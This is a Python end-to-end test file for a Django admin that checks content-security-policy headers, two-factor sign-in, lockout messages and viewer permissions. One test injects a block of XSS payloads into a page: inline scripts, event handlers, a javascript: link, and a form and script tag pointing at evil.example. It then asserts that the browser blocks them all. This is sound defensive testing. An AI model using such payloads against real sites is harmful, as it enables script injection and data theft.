"""A person with a browser and a phone, and somebody who got a script into a page."""

from collections.abc import Iterator
from typing import Any, Literal

import pytest
from django.contrib import admin
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import Group, User
from django.urls import NoReverseMatch, reverse
from pytest_django import Settings

from decisions.models import DecisionCycle
from journal.presentation import page_of
from orchestrator_project.accounts.models import AccountEvent
from risk.models import RiskState
from tests.e2e.test_admin_pages import CHROMIUM, FLAGS, PASSWORD, browsing
from tests.integration.admin_rows import OURS, row
from tests.integration.decisions.build import NOON
from tests.integration.decisions.scene import world
from tests.integration.orchestrator_project.sign_in import code_of

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` on the PATH: there is no browser to look with"),
    pytest.mark.timeout(420),
]
VISITED_AT_LEAST = 80


@pytest.fixture
def reader(django_user_model: Any) -> User:
    return django_user_model.objects.create_superuser("reader", password=PASSWORD)


def addresses() -> Iterator[str]:
    """Every page of the admin that is only read: lists, rows, forms, what people may do."""
    yield from ("/admin/", "/admin/password_change/", "/admin/second-factor/", "/admin/second-factor/enrol/")
    for model, pages in admin.site._registry.items():
        found = model._default_manager.order_by("pk").first()
        for pattern in pages.get_urls():
            for arguments in ((), *([(found.pk,)] if found is not None else [])):
                try:
                    yield reverse(f"admin:{pattern.name}", args=arguments)
                except NoReverseMatch:
                    continue


def test_no_page_breaks_the_policy_that_it_is_sent_with(live_server: Any, reader: User, redis_client: Any) -> None:
    """`browsing` fails for every complaint of the browser; a download is no page."""
    world(NOON)
    for number, model in enumerate(OURS, 100):
        if not model._default_manager.exists():
            row(model, number)
    group = Group.objects.create(name="night shift")
    LogEntry.objects.log_actions(reader.pk, [group], CHANGE, "moved", single_object=True)
    AccountEvent.objects.create(username=reader.username, event="signed_in")
    visited, wanted = 0, list(dict.fromkeys(addresses()))
    with browsing(live_server.url, 1400) as page:
        for address in wanted:
            found = page.request.get(live_server.url + address)
            if found.status == 200 and found.headers.get("content-type", "").startswith("text/html"):
                policy = page.goto(live_server.url + address, wait_until="load").headers["content-security-policy"]
                assert "script-src 'self' 'unsafe-eval'" in policy
                assert "unsafe-inline" not in policy
                visited += 1
    assert visited > VISITED_AT_LEAST


INJECTED = """
<script>window.owned = "script"</script>
<img src="data:image/png;base64,none" onerror="window.owned = 'handler'">
<a id="link" href="javascript:window.owned = 'link'">here</a>
<style>h2 { display: none }</style>
<form id="sent" action="https://evil.example/" method="post"><input name="seen" value="it"></form>
<script src="https://evil.example/owned.js"></script>
<base href="https://evil.example/">
</body>
"""


def test_what_somebody_got_into_a_page_does_not_run(live_server: Any, reader: User) -> None:
    """As if a text of a model were not escaped somewhere."""
    from playwright.sync_api import sync_playwright

    address = page_of(row(DecisionCycle))
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        failed: list[tuple[str, str]] = []
        page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        page.goto(f"{live_server.url}/")
        page.fill("[name=username]", "reader")
        page.fill("[name=password]", PASSWORD)
        page.click("[type=submit]")

        def inject(route: Any) -> None:
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("</body>", INJECTED))

        page.route(f"**{address}", inject)
        page.goto(live_server.url + address)
        page.evaluate("document.getElementById('link').click()")
        assert page.locator(".record h2").first.is_visible()
        page.evaluate("document.getElementById('sent').submit()")
        page.wait_for_timeout(300)  # nothing is to happen: there is no condition to wait for
        assert page.evaluate("window.owned") is None
        assert page.url == live_server.url + address
        browser.close()
    # The browser itself refused, before any network.
    assert [each for each in failed if "evil" in each[0]] == [("https://evil.example/owned.js", "csp")]
    for directive in ("script-src", "style-src", "form-action", "base-uri"):
        assert any(directive in each for each in complaints), directive


@pytest.mark.parametrize(("width", "scheme"), [(1400, "light"), (400, "dark")])
def test_live_a_person_sets_up_a_second_factor_and_signs_in_by_it(
    width: int, scheme: Literal["light", "dark"], live_server: Any, reader: User, settings: Settings
) -> None:
    from playwright.sync_api import expect

    settings.REQUIRE_SECOND_FACTOR = True
    trades = f"{live_server.url}/admin/journal/trade/"
    with browsing(live_server.url, width, scheme) as page:

        def fits() -> bool:
            return bool(page.evaluate("document.documentElement.scrollWidth") <= width)

        expect(page.locator("h1")).to_contain_text("Set up your second factor")
        page.goto(trades)  # in vain
        expect(page.locator("h1")).to_contain_text("Set up your second factor")
        assert page.evaluate("document.querySelector('img').naturalWidth") > 100
        assert fits()
        key = bytes_of(page.locator("#key").inner_text())
        page.get_by_label("The code that the app shows now").fill("000 000")
        page.click("text='Set it up'")
        expect(page.get_by_role("alert")).to_contain_text("not the code of this picture")
        page.get_by_label("The code that the app shows now").fill(code_of(key))
        page.click("text='Set it up'")
        expect(page.locator(".record-codes li")).to_have_count(10)
        assert fits()
        recovery = page.locator(".record-codes code").first.inner_text()
        page.click("text='They are kept: go on'")
        page.goto(trades)
        expect(page).to_have_url(trades)

        page.goto(f"{live_server.url}/admin/second-factor/")
        expect(page.locator(".record")).to_contain_text("10 recovery codes left")
        page.click("text='Sign out reader'")
        sign_in_again(page, trades)
        page.get_by_label("Code of your app").fill(code_of(key, 1))
        assert fits()
        page.click("text='Go on'")
        expect(page).to_have_url(trades)

        page.goto(f"{live_server.url}/admin/second-factor/")
        page.click("text='Sign out reader'")
        sign_in_again(page, trades)
        page.click("text='Your phone is not at hand? Use a recovery code'")
        page.get_by_label("Recovery code").fill(recovery)
        page.click("text='Go on'")
        expect(page).to_have_url(trades)
    happened = AccountEvent.objects.exclude(event="password_set").order_by("id").values_list("event", flat=True)
    assert list(happened) == [
        "signed_in", "factor_enrolled", "codes_written", "signed_out", "signed_in", "verified", "signed_out",
        "signed_in", "verified",
    ]  # fmt: skip


def sign_in_again(page: Any, onward: str) -> None:
    page.goto(onward)
    page.fill("[name=username]", "reader")
    page.fill("[name=password]", PASSWORD)
    page.click("[type=submit]")


def bytes_of(typed: str) -> str:
    """The key in hexadecimal digits, from what people type into an app."""
    import base64

    return base64.b32decode(typed).hex()


def test_a_person_is_told_why_they_are_locked_out(live_server: Any, reader: User) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 400, "height": 900})
        page.goto(f"{live_server.url}/admin/")
        for _ in range(5):
            page.fill("[name=username]", "reader")
            page.fill("[name=password]", "a guess")
            page.click("[type=submit]")
        assert "Wait 15 minutes" in page.get_by_role("alert").inner_text()
        page.click("text='Back to the sign-in'")
        assert page.locator("[name=username]").is_visible()
        browser.close()


def test_a_viewer_is_refused_in_the_browser_too(live_server: Any, django_user_model: Any, redis_client: Any) -> None:
    from django.contrib.auth.models import Group
    from playwright.sync_api import expect

    world(NOON)
    found = RiskState.objects.get()
    viewer = django_user_model.objects.create_user("reader", password=PASSWORD, is_staff=True)
    viewer.groups.add(Group.objects.get(name="viewer"))
    with browsing(live_server.url, 1400) as page:
        page.goto(live_server.url + page_of(found))
        expect(page.locator(".record h2").first).to_be_visible()
        assert page.locator("text='Halt trading'").count() == 0
        halt = reverse("admin:risk_riskstate_halt", args=(found.pk,))
        assert page.request.get(live_server.url + halt).status == 403
